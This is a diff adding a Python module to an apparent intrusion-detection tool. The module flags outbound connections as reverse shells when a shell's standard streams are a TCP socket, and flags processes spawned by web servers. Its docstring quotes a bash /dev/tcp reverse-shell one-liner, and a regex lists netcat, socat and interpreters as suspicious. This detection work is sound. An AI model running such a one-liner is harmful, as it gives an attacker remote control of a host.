@@ -1,0 +1,237 @@
+"""Outbound behaviour, loader side: `raw_socket` events, and the evidence
+signals attached to `connection` events, read from /proc at event time.
+
+Signals (the event's "signals" object: name -> one line of evidence):
+  stdio_socket    fd 0 or 1 of the connecting process is a TCP socket (matched
+                  by inode in /proc/PID/net/tcp{,6}, the process's own network
+                  namespace): a shell or interpreter talking to the network
+                  through its standard streams is a reverse shell, whatever
+                  the port.
+  parent_service  the parent is a web server or database and the process is
+                  not one of its workers (a program it spawned).
+
+`bash -i >& /dev/tcp/H/443 0>&1` connects first and moves the socket onto
+fd 0/1 a moment later, so a connection by a shell or interpreter whose
+standard streams are not (yet) a socket is held up to HOLD_S and re-read
+until they are, the process is gone, or the time is up; then it is emitted
+either way (holding changes when a connection is reported, never whether).
+A shell that waits longer before redirecting is caught by the kernel
+instead: a dup()/dup2()/dup3() onto fd 0 or 1 by a process that connected
+out (or a child of one) is reported (bpf/outbound.bpf.c), and if fd 0/1 is
+then a TCP socket, that connection is emitted again with "mode": "stdio"
+and its signals (once per socket).
+"""
+
+from __future__ import annotations
+
+import os
+import re
+import time
+from collections import OrderedDict
+from typing import Callable
+
+from .egress import EgressTracker
+from .stdio import describe, stdio_tcp
+
+# Shells, interpreters and relays that have no business with a network socket
+# as stdin/stdout (compared with comm and the exe's basename).
+SHELLS = re.compile(r"^(?:ba|da|z|k|mk|c|tc|fi|a)?sh$|^busybox$|^python[0-9.]*$|^perl[0-9.]*$|"
+                    r"^ruby[0-9.]*$|^php[0-9.]*(?:-cli)?$|^lua[0-9.]*$|^node(?:js)?$|^tclsh[0-9.]*$|"
+                    r"^n(?:et)?cat(?:\.openbsd|\.traditional)?$|^nc(?:\.openbsd|\.traditional)?$|"
+                    r"^socat$|^telnet$|^awk$|^gawk$|^mawk$")
+SERVICES = {"nginx", "apache2", "httpd", "lighttpd", "caddy", "php-fpm", "php-fpm8.2", "uwsgi",
+            "gunicorn", "tomcat", "java", "mysqld", "mariadbd", "postgres", "postmaster",
+            "redis-server", "mongod"}
+HOLD_S = 1.0
+MAX_HELD = 256   # beyond this, shells' connections are emitted at once (counted)
+SIGNAL_CACHE_S = 0.5
+
+
+def usr_merged(path: str) -> str:
+    """/bin/ping -> /usr/bin/ping where /bin is the root-owned usr-merge link
+    (what /proc/PID/exe would have said). Other paths are left as given."""
+    top, sep, rest = path.lstrip("/").partition("/")
+    if path.startswith("/") and sep and top in ("bin", "sbin", "lib", "lib64") \
+            and os.path.realpath(f"/{top}") == f"/usr/{top}":
+        return f"/usr/{top}/{rest}"
+    return path
+
+
+def is_shell(comm: str | None, exe: str | None) -> bool:
+    names = {(comm or "").lower(), os.path.basename((exe or "").replace(" (deleted)", "")).lower()}
+    return any(n and SHELLS.match(n) for n in names)
+
+
+def _comm(pid: int) -> str | None:
+    try:
+        with open(f"/proc/{pid}/comm", "rb") as f:
+            return f.read().rstrip(b"\n").decode("utf-8", "replace")
+    except OSError:
+        return None
+
+
+def parent_service(ppid: int | None, comm: str | None) -> str | None:
+    if not ppid:
+        return None
+    parent = _comm(ppid)
+    if parent is None or parent == comm:
+        return None  # a worker of the service itself is the service
+    base = re.sub(r"[0-9.]+$", "", parent)
+    if parent in SERVICES or base in SERVICES or parent.startswith("php-fpm"):
+        return f"parent {parent} (pid {ppid})"
+    return None
+
+
+def signals_for(fields: dict, stdio=None) -> dict[str, str]:
+    """The signals of a connection's process; stdio: stdio_tcp(pid) if already read."""
+    out = {}
+    stdio = stdio or stdio_tcp(fields["pid"])
+    if stdio:
+        out["stdio_socket"] = describe(*stdio)
+    parent = parent_service(fields.get("ppid"), fields.get("comm"))
+    if parent:
+        out["parent_service"] = parent
+    return out
+
+
+class Outbound:
+    """Annotates connection events with signals (holding shells' briefly) and
+    turns raw-socket sightings into events. emit(type, **fields) writes one."""
+
+    def __init__(self, procs, emit: Callable[..., None], hold_s: float = HOLD_S, raw=None,
+                 egress_interval: float = 1.0):
+        self.procs = procs
+        self.emit = emit
+        self.hold_s = hold_s
+        self.raw = raw              # the OutboundMonitor, for its egress counters
+        self.egress = EgressTracker()
+        self.egress_interval = egress_interval
+        self._egress_at = time.monotonic()
+        self._held: OrderedDict[int, tuple[float, dict]] = OrderedDict()
+        self._seq = 0
+        self._signal_cache: OrderedDict[tuple, tuple] = OrderedDict()
+        self._reported: OrderedDict[str, None] = OrderedDict()  # socket inodes reported with the signal
+        self.counts = {"raw_sockets": 0, "signalled": 0, "held": 0, "hold_overflow": 0, "lost": 0,
+                       "redirected": 0}
+
+    def raw_socket(self, raw) -> None:
+        info = self.procs.get(raw.pid)
+        self.counts["raw_sockets"] += 1
+        exe, source = info["exe"], "proc"
+        if exe is None and raw.exec_path:
+            # Gone already (ping -c1 lives a millisecond): the path the kernel
+            # saw at execve is the best identity left.
+            exe, source = usr_merged(raw.exec_path), "exec"
+        elif exe is None:
+            source = None
+        self.emit("raw_socket", pid=raw.pid, tid=raw.tid, ppid=info["ppid"], uid=raw.uid,
+                  comm=raw.comm, exe=exe, exe_source=source, exec_path=raw.exec_path,
+                  cmdline=info["cmdline"],
+                  proc_error=info["proc_error"], family=raw.family, sock_type=raw.sock_type,
+                  protocol=raw.protocol, protocol_name=raw.protocol_name, fd=raw.fd)
+        if self.raw is not None and self.raw.egress_link is not None:
+            self.egress.remember({"pid": raw.pid, "ppid": info["ppid"], "uid": raw.uid,
+                                  "comm": raw.comm, "exe": exe, "cmdline": info["cmdline"],
+                                  "fd": raw.fd})
+
+    def connection(self, fields: dict) -> None:
+        """Emit a connection event now, or hold it (a shell whose stdio is not a socket yet)."""
+        if self._annotate(fields, cached=True) or not is_shell(fields.get("comm"), fields.get("exe")) \
+                or fields.get("proc_error"):
+            self._emit_connection(fields)
+            return
+        if len(self._held) >= MAX_HELD:
+            self.counts["hold_overflow"] += 1
+            self._emit_connection(fields)
+            return
+        self.counts["held"] += 1
+        self._seq += 1
+        self._held[self._seq] = (time.monotonic() + self.hold_s, fields)
+
+    def _annotate(self, fields: dict, cached: bool = False) -> bool:
+        """Attach the signals; True when stdio is a TCP socket. cached: reuse
+        a reading of this pid younger than SIGNAL_CACHE_S (a connect scanner
+        would otherwise cost three /proc reads per connection)."""
+        now, pid = time.monotonic(), fields["pid"]
+        hit = self._signal_cache.get((pid, fields.get("ppid"))) if cached else None
+        if hit is not None and now - hit[0] < SIGNAL_CACHE_S:
+            stdio, found = hit[1], dict(hit[2])
+        else:
+            stdio = stdio_tcp(pid)
+            found = signals_for(fields, stdio)
+            self._signal_cache[(pid, fields.get("ppid"))] = (now, stdio, found)
+            self._signal_cache.move_to_end((pid, fields.get("ppid")))
+            while len(self._signal_cache) > MAX_HELD * 16:
+                self._signal_cache.popitem(last=False)
+        if found:
+            fields["signals"] = found
+        if stdio:
+            self._note_reported(stdio[1].inode)
+        return stdio is not None
+
+    def _note_reported(self, inode: str) -> bool:
+        """Remember a socket as reported with its signal; False if it was.
+        By socket, not process: the shell's children inherit it as their
+        stdin and dup their own pipes onto fd 1 ($(...), pipelines)."""
+        if inode in self._reported:
+            return False
+        self._reported[inode] = None
+        while len(self._reported) > MAX_HELD * 16:
+            self._reported.popitem(last=False)
+        return True
+
+    def stdio_dup(self, dup) -> None:
+        """A process that connected out put something on fd 0 or 1 (however
+        long after connecting): if that is a TCP socket now, the connection is
+        reported again, "mode": "stdio", with its signals."""
+        hit = stdio_tcp(dup.pid)
+        if hit is None:
+            return
+        pid, tid, comm, info = dup.pid, dup.tid, dup.comm, self.procs.get(dup.pid)
+        # Name the process that put the socket there, not a child that
+        # inherited it and whose own dup happened to be read first (events of
+        # different CPUs come in any order): go up while the parent has the
+        # same socket on its fd 0/1.
+        for _ in range(8):
+            up = stdio_tcp(info["ppid"]) if info["ppid"] and info["ppid"] > 1 else None
+            if up is None or up[1].inode != hit[1].inode:
+                break
+            pid = tid = info["ppid"]
+            comm, info = _comm(pid) or comm, self.procs.get(pid)
+        if not self._note_reported(hit[1].inode):
+            return
+        sock = hit[1]
+        fields = dict(pid=pid, tid=tid, ppid=info["ppid"], uid=dup.uid, comm=comm,
+                      exe=info["exe"], cmdline=info["cmdline"], proc_error=info["proc_error"],
+                      family=sock.family, saddr=sock.saddr, sport=sock.sport, daddr=sock.daddr,
+                      dport=sock.dport, mode="stdio")
+        fields["signals"] = signals_for(fields, hit)
+        self.counts["redirected"] += 1
+        self._emit_connection(fields)
+
+    def _emit_connection(self, fields: dict) -> None:
+        if "signals" in fields:
+            self.counts["signalled"] += 1
+        self.emit("connection", **fields)
+
+    def lost(self, n: int, warn: Callable[[str], None]) -> None:
+        self.counts["lost"] += n
+        warn(f"kernel buffer overflow: {n} raw-socket events lost ({self.counts['lost']} in all)")
+        self.emit("lost", count=n, total=self.counts["lost"], source="raw_events")
+
+    def poll(self, flush: bool = False) -> None:
+        """Re-read held connections; emit the settled ones (all with flush);
+        emit egress windows when one is due (and the last one with flush)."""
+        now = time.monotonic()
+        if self.raw is not None and self.raw.egress_link is not None and (
+                flush or now - self._egress_at >= self.egress_interval):
+            for body in self.egress.window(self.raw.read_egress(), now - self._egress_at):
+                self.emit("egress", **body)
+            self._egress_at = now
+        if not self._held:
+            return
+        for key, (until, fields) in list(self._held.items()):
+            gone = not os.path.exists(f"/proc/{fields['pid']}")
+            if self._annotate(fields) or gone or now >= until or flush:
+                del self._held[key]
+                self._emit_connection(fields)
